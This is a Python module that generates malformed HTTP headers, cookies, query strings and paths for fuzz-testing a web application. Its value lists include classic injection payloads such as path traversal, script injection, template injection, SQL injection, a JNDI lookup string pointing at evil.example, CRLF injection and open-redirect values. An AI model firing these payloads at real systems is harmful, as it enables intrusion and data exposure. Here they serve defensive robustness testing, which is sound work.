"""What browsers, proxies and those who try things send that nobody thought of: at least 400 values for each header."""

from itertools import product
from random import Random

from itsdangerous import URLSafeTimedSerializer

SO_MANY = 400

NO_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x7f",
    "\xff\xfe",
    "é",
    "\u00c3\u00a9",
    "\x80" * 40,
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "%u2603",
    "\t",
    "\r\nX-Odd: 1",
    "null",
    "undefined",
    "-1",
    "0",
    "9" * 40,
    "1e999",
    "NaN",
    "*",
    ",",
    ";",
    ",,,,",
    ";;;=;",
    "=",
    '"',
    "'",
    "\\",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "%(name)s",
    "${jndi:ldap://evil.example}",
    "' OR 1=1 --",
    "a" * 8000,
    "a," * 4000,
    "[" * 4000,
]
TAGS = [
    *[
        "ru-DE",
        "de-RU",
        "en-US-POSIX",
        "zh-Hant-TW",
        "zh-Hans",
        "sr-Latn-RS",
        "es-419",
        "pt_BR",
        "de-CH-1996",
        "sl-rozaj-biske-1994",
        "en-GB-oed",
    ],
    *[
        "i-klingon",
        "i-default",
        "x-whatever",
        "art-lojban",
        "de-DE-u-co-phonebk",
        "en-x-DE",
        "a-DE",
        "und",
        "und-DE",
        "mul-150",
        "ca-ES-valencia",
    ],
    *[
        "EN",
        "eN-uS",
        "en-",
        "-en",
        "en--US",
        "en-US-",
        "-",
        "--",
        "xx-XX",
        "xx-ZZ",
        "zz",
        "tlh",
        "tlh-Latn",
        "fil-PH",
        "haw-US",
        "yue-Hant-HK",
        "en-150",
        "ar-001",
    ],
    *[
        "nb-NO-nynorsk",
        "no-bok",
        "ja-JP-mac",
        "cy-GB",
        "gd-IE",
        "mt-MT",
        "de-AQ",
        "fr-FX",
        "en-UK",
        "eo",
        "eo-XX",
        "ku-TR-arab",
        "419",
        "DE",
        "1-2",
        "_",
        "de_",
        "_DE",
    ],
]
HOSTS = [
    *[
        "localhost",
        "localhost:80",
        "localhost:0",
        "localhost:99999",
        "localhost:x",
        "localhost:",
        ":80",
        ":",
        "LOCALHOST",
        "localhost.",
        ".localhost",
    ],
    *[
        "127.0.0.1",
        "127.1",
        "0x7f.1",
        "2130706433",
        "[::1]",
        "[::1]:x",
        "[::1",
        "::1",
        "[]",
        "[fe80::1%eth0]",
        "[::ffff:127.0.0.1]",
        "[v1.x]",
        "[1]",
    ],
    *[
        "evil.example",
        "localhost@evil.example",
        "evil.example/localhost",
        "evil#localhost",
        "evil?x",
        "localhost\\evil",
        "a..b",
        "-a-",
        "_a_",
    ],
    *[
        "xn--",
        "xn--a",
        "xn--bcher-kva.example",
        "bücher.example",
        "%6cocalhost",
        "localhost%00",
        "localhost,evil",
        "localhost;evil",
    ],
    "." * 300,
    "a." * 200,
    "a" * 64 + ".example",
    "local host",
]
MEDIA = [
    *[
        "text/html",
        "text/*",
        "*/*",
        "*",
        "/",
        "a/b/c",
        "text",
        "text/",
        "/html",
        "text/html;q=0",
        "application/json",
        "image/webp",
        "q=1",
    ],
    *[
        "multipart/form-data",
        "multipart/form-data;boundary=",
        "multipart/form-data;boundary=ÿ",
        "text/html;charset=utf-99",
    ],
    *[
        "application/x-www-form-urlencoded;charset=nope",
        "br",
        "gzip",
        "identity",
        "identity;q=0",
        "deflate",
        "zstd",
        "gzip,br",
        "br;q=2",
    ],
]
WEIGHTS = [
    "",
    ";q=0",
    ";q=1",
    ";q=nan",
    ";q=inf",
    ";q=-1",
    ";q=1e999",
    ";q=",
    ";q",
    ";q=0.5;q=0.7",
    ";level=1",
    ";q=\xb2",
]
SOURCES = [
    f"{scheme}://{host}{path}"
    for scheme, host, path in product(
        ("http", "https", "javascript", "", "\x00", "HTTP"),
        HOSTS,
        ("", "/today", "/\\evil", "//evil", "/%00?%ff#\xff"),
    )
]
RANGES = [
    "bytes=0-",
    "bytes=-1",
    "bytes=9-1",
    "bytes=a-b",
    "bytes",
    "pages=1-2",
    "bytes=0-0," * 500,
    "bytes=" + "9" * 40 + "-",
]
DATES = [
    "Wed, 11 Mar 2026 20:00:00 GMT",
    "Wed, 99 Foo 9999",
    "0001-01-01",
    "Thu, 01 Jan 1970 00:00:00 -9999",
    'W/"x"',
    '"' * 100,
]
FORWARDED = [
    "203.0.113.5",
    "203.0.113.5, 10.0.0.1",
    "unknown",
    "_hidden",
    "::1",
    "[::1]:443",
    'for="[::1]";proto=https',
    "999.999.999.999",
    "10.0.0.1," * 500,
]


def made_up(random: Random, alphabet: str) -> str:
    return "".join(random.choices(alphabet, k=random.choice((1, 2, 3, 8, 30, 200))))


def several(name: str, *lists: list[str]) -> list[str]:
    """All that was thought of for a header, alike with and without a weight, and made-up ones until there are enough."""
    random = Random(name)
    thought_of = [each for values in (*lists, NO_TEXT) for each in values]
    alphabet = "".join(map(chr, range(256))) + "-,;=qQ.*/:@[]%" * 10
    found = list(dict.fromkeys(thought_of))
    while len(found) < SO_MANY:
        pair = random.sample(thought_of, 2)
        found.append(
            random.choice([",".join(pair), pair[0] + random.choice(WEIGHTS), made_up(random, alphabet)])
        )
    return found


HEADERS: dict[str, list[str]] = {
    "HTTP_ACCEPT_LANGUAGE": several(
        "language", TAGS, [tag + weight for tag in TAGS[:20] for weight in WEIGHTS]
    ),
    "HTTP_HOST": several(
        "host", HOSTS, [f"{host}:{port}" for host in HOSTS for port in ("", "80", "-1", "\xb2", "8" * 9)]
    ),
    "HTTP_REFERER": several("referer", SOURCES),
    "HTTP_ORIGIN": several("origin", SOURCES),
    "HTTP_ACCEPT": several("accept", MEDIA),
    "HTTP_ACCEPT_ENCODING": several(
        "encoding", MEDIA, [f"br{weight},gzip{other}" for weight in WEIGHTS for other in WEIGHTS]
    ),
    "HTTP_COOKIE": [],  # see `cookies`
    "HTTP_X_FORWARDED_HOST": several("forwarded host", HOSTS),
    "HTTP_X_FORWARDED_PROTO": several(
        "forwarded proto", ["http", "https", "https,http", "wss", "ftp", "HTTPS"], HOSTS
    ),
    "HTTP_X_FORWARDED_FOR": several("forwarded for", FORWARDED, HOSTS),
    "HTTP_FORWARDED": several("forwarded", FORWARDED),
    "HTTP_RANGE": several("range", RANGES),
    "HTTP_IF_NONE_MATCH": several("etag", DATES),
    "HTTP_IF_MODIFIED_SINCE": several("since", DATES),
    "HTTP_IF_RANGE": several("if range", DATES, RANGES),
    "HTTP_AUTHORIZATION": several(
        "authorization", ["Basic", "Basic \xff", "Basic YTpi", "Bearer x", "Digest a=b"]
    ),
    "HTTP_USER_AGENT": several("agent"),
    "HTTP_TEND_PART": several("part"),
    "HTTP_X_CSRFTOKEN": several("token"),
    "HTTP_SEC_FETCH_SITE": several("site", ["same-origin", "none", "cross-site"]),
    "HTTP_X_HTTP_METHOD_OVERRIDE": several("override", ["PUT", "DELETE"]),
    "CONTENT_TYPE": several("type", MEDIA),
}


def cookies(signer: URLSafeTimedSerializer, whole: dict[str, object]) -> list[str]:
    """A session's cookie that is cut, mixed up, of other kinds, and signed by us but with odd things in it."""
    random = Random("cookies")
    good = str(signer.dumps(whole))
    odd = [
        *(f"tend={good[:cut]}" for cut in range(0, len(good), max(1, len(good) // 60))),
        *(f"tend={signer.dumps(held)}" for held in ODD_SESSIONS),
        *(f"tend={signer.dumps({**whole, name: value})}" for name, value in product(whole, ODD_VALUES)),
        *(
            f"tend={signer.make_signer(signer.salt).sign(raw).decode('latin-1')}"
            for raw in (b"", b".", b".e30", b"e30=", b"bnVsbA", b"\xff", b".eJw")
        ),
        *(
            f"{name}={value}"
            for name, value in product(("tend", "remember_token", "session", "", "$Version"), NO_TEXT)
        ),
        *(
            "remember_token=1|\xff",
            "remember_token=a|" + "f" * 128,
            f"tend={good}; tend={good[:9]}",
            f"tend={good}; tend=",
        ),
        "tend=" + good * 200,
        "; ".join(f"c{number}=x" for number in range(2000)),
    ]
    odd += [
        each[:place] + random.choice(NO_TEXT[:20]) + each[place:]
        for each in odd
        for place in [random.randrange(5, 50)]
    ]
    return odd


ODD_VALUES: list[object] = [
    *(
        None,
        True,
        0,
        -1,
        10**30,
        1.5,
        "",
        "\x00",
        "\ud800",
        "é",
        "x" * 3000,
        [],
        [1],
        ["a", "b"],
        ["a", 1],
        {},
        {"a": 1},
    ),
    *(
        [[]],
        [["notice", "plain"]],
        [["notice", {"sentence": "%(a)s %", "values": {}, "undo": "", "undo_typed": {}}]],
    ),
    *([["notice", {"sentence": 5}]], [["x", {"sentence": "a", "values": [], "undo": 3, "undo_typed": []}]]),
]
ODD_SESSIONS: list[object] = [
    *(
        None,
        5,
        "text",
        [],
        [["a", 1]],
        {" t": [1]},
        {" u": "x"},
        {" d": "x"},
        {" b": "x"},
        {"": 1},
        {"_remember": "set"},
    ),
    *(
        {"_remember": "clear"},
        {"_remember_seconds": "x", "_remember": "set", "_user_id": "x"},
        {"other": {"a": [None]}},
    ),
    *(
        {"_permanent": "yes"},
        {"csrf_token": 5},
        {"_flashes": 5},
        {"_flashes": [5]},
        {"address": [1]},
        {"_user_id": {}},
    ),
]

NUMBERS = [
    "0",
    "-1",
    "1e9",
    "9" * 30,
    str(2**63),
    str(-(2**70)),
    "١",
    "²",
    "1.5",
    "0x10",
    " 1",
    "1\x00",
    "NaN",
    "true",
]
NAMES = [
    *[
        "next",
        "words",
        "topic",
        "older-than",
        "older_than",
        "past",
        "of",
        "about",
        "prompt",
        "kind",
        "idea",
        "besides",
        "jar",
        "country",
        "year",
        "day",
        "week",
        "whom",
    ],
    *[
        "strategy",
        "name",
        "mode",
        "often",
        "times",
        "cue",
        "goal",
        "unit",
        "page",
        "q",
        "token",
        "section",
        "saved",
        "draft",
        "part",
        "version",
    ],
]
NEXTS = [
    "//evil.example",
    "/\\evil",
    "javascript:alert(1)",
    "/today\x00",
    "/%0d%0aX:1",
    "/" + "a" * 4000,
    "http://[",
    "/\xff",
]


def queries() -> list[str]:
    """Query strings as a server hands them on: all names that pages read with the same odd value, and stranger ones."""
    values = map(quoted, (*NUMBERS, *NO_TEXT, *NEXTS))
    alike = ["&".join(f"{name}={value[:1000]}" for name in NAMES) for value in values]
    return [*alike, *NO_TEXT, "a=1&" * 1500, "&&&", "=&=", "[]=1&[a][b]=2", "%=%&%ff=%ff", "?" * 50]


def quoted(value: str) -> str:
    """A value in a query, as a server hands it on: the bytes of UTF-8, each as a letter of Latin-1."""
    return value.replace("&", "%26").replace("\x00", "%00").encode(errors="replace").decode("latin-1")


def paths(known: list[str]) -> list[str]:
    """Paths of ours with something odd in them, or behind them."""
    random = Random("paths")
    odd = [
        "\x00",
        "\xff",
        "\xc3",
        "%",
        "%00",
        "\\",
        "//",
        "/.",
        "/..",
        ";x",
        "\t",
        "\n",
        "é",
        "'",
        "9" * 30,
        "-1",
        "a" * 3000,
    ]
    bare = [
        "",
        "*",
        "//",
        "/\\",
        "/\x00",
        "/\xff\xfe",
        "http://localhost/today",
        "/" * 2000,
        "/.well-known/x",
        "today",
    ]
    return bare + [
        changed
        for path in known
        for one in random.sample(odd, 4)
        for changed in (path + one, path.rpartition("/")[0] + "/" + one)
    ]
